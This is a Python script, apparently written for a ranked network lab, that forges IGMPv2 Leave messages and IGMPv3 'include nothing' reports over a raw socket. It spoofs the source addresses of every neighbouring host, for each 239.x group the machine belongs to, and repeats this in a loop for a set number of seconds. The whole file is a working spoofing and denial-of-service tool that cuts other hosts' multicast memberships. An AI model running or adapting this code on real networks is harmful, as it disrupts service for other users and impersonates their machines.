"""A host that ends memberships in the names of all hosts: IGMPv2 leaves, and IGMPv3 reports of groups to include nothing.

Usage: leaves.py SECONDS, as root on a host of a lab that has a rank: its own groups are those that are left. Prints `LEAVES leaves=N groups=G`.
"""

import re
import socket
import struct
import sys
import time

INTERFACE = "e0"
IGMP = 2
ROUTER_ALERT = bytes([148, 4, 0, 0])
LEAVE, REPORT_3, TO_INCLUDE = 0x17, 0x22, 3
HOSTS = 4
PAUSE_SECONDS = 0.02

out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, struct.pack("4s4si", bytes(4), bytes(4), socket.if_nametoindex(INTERFACE)))
out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)


def checksum(words):
    total = sum(struct.unpack(f"!{len(words) // 2}H", words))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def packet(source, target, content):
    """With the router alert that switches want; the kernel fills in the length and the header's checksum."""
    content = content[:2] + struct.pack("!H", checksum(content)) + content[4:]
    header = struct.pack("!BBHHHBBH4s4s", 0x46, 0xC0, 0, 0, 0, 1, IGMP, 0, source, socket.inet_aton(target))
    return header + ROUTER_ALERT + content


def groups():
    """Of jobs: 239.x, as hexadecimal numbers of this machine."""
    with open("/proc/net/igmp") as igmp:
        found = re.findall(r"^\s+([0-9A-F]{6}EF)\b", igmp.read(), re.M)
    return [struct.pack("=I", int(group, 16)) for group in found]


def hosts():
    """All that are neighbours, and this one."""
    with open("/proc/net/fib_trie") as routes:
        mine = re.search(r"\|-- (10\.\d+\.\d+\.)(\d+)\n\s+/32 host LOCAL", routes.read())
    return [socket.inet_aton(mine[1] + str(number)) for number in range(1, HOSTS + 1)]


forged, seen = 0, set()
until = time.monotonic() + float(sys.argv[1])
names = hosts()
while time.monotonic() < until:
    for group in groups():
        seen.add(group)
        for name in names:
            leave = struct.pack("!BBH4s", LEAVE, 0, 0, group)
            report = struct.pack("!BBHHHBBH4s", REPORT_3, 0, 0, 0, 1, TO_INCLUDE, 0, 0, group)
            for target, content in (("224.0.0.2", leave), ("224.0.0.22", report)):
                try:
                    out.sendto(packet(name, target, content), (target, 0))
                    forged += 1
                except OSError:
                    pass
    time.sleep(PAUSE_SECONDS)
print(f"LEAVES leaves={forged} groups={len(seen)}", flush=True)
